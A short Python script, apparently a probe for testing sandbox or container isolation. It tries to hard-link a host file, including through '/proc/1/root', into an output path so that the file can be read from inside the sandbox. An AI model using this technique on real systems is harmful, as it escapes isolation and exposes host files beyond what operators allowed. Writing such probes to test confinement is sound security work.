"""Hand back a file of the host under a second name: `PATH`."""

import contextlib
import os
import sys

print("trying", flush=True)
for path in (sys.argv[1], "in/data", f"/proc/1/root{sys.argv[1]}"):
    with contextlib.suppress(OSError):
        os.link(path, "out/answer", follow_symlinks=True)
